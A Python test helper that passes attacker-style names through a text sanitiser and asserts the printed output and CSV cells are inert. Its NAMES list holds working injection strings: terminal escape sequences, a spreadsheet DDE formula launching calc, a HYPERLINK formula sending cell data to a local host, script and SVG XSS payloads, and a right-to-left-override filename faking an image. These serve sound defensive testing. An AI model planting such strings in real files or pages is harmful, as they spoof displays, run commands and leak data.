"""Names and texts as an attacker would write them, and what must not come of them."""

import csv
import re
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from trainables.printing.printable_text import printable

NAMES = (
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
    "\x9b2J\x90q\x9d0;owned\x9c",
    "two\nerror: lines\r\tand\x0b\x0c\x85more",
    "gpu[1] [/b] [bold red]x [link=http://x]y",
    ":smile: :warning:",
    r"$\frac{$ $x^ \$ 100$",
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "</script><script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "\"><svg onload=document.title='owned'>",
    "{{ 7 * 7 }}{% raw %}%s%d{0}%(x)s",
    "| a | b |\n# heading\n[click](javascript:document.title='owned') ![x](http://127.0.0.1:9/x) `x` *y* ~~z~~",
    "photo\u202egpj.exe\u2066\u200b\u200d\u2060\ufeff\u00ad",
    "line\u2028and\u2029paragraph",
    "tag\U000e0041\U000e0042\ufe0f",
    "_hidden",
    "日本語 العربية ไทย",
    "x" * 300,
    "Pastures",
)
SHOWN = tuple(printable(name) for name in NAMES)
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\ud800-\udfff]")
_COMPUTED = re.compile(r"\s*[=+\-@\t\r]")


def acting(text: str) -> list[str]:
    """Return the signs of a text that would act on a terminal or hide something."""
    return [ascii(sign) for sign in _CONTROL.findall(text)]


def check_output(captured: "pytest.CaptureResult[str]") -> str:
    """Return what was printed, which nothing in it acts on; no second line passes for an error of the program."""
    for text in (captured.out, captured.err):
        assert acting(text) == []
        assert not [line for line in text.splitlines() if line.startswith("error: lines")]
    return captured.out + captured.err


def check_csv(path: Path) -> list[list[str]]:
    """Return the cells of a CSV file, none of which a spreadsheet computes."""
    text = path.read_text(encoding="utf-8")
    assert acting(text) == []
    with path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    for cell in (cell for row in rows for cell in row):
        assert not _COMPUTED.match(cell) or _is_number(cell), cell
    return rows


def write_images(folder: Path, each: int = 5) -> Path:
    """Write images under hostile names and a table with their hostile labels; return the table."""
    random = np.random.default_rng(0)
    images = folder / "images"
    images.mkdir(parents=True)
    rows = []
    for label, name in enumerate(NAMES):
        for number in range(each):
            file = f"{name[:60].replace('/', '_').strip()}{number}.png"
            pixels = random.integers(0, 120, (16, 16, 3)) + 5 * label
            Image.fromarray(pixels.astype(np.uint8)).save(images / file)
            rows.append((file, name, "test" if number < 2 else "train"))
    table = folder / "table.csv"
    with table.open("w", newline="", encoding="utf-8") as file_:
        csv.writer(file_).writerows([("path", "label", "split"), *rows])
    return table


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
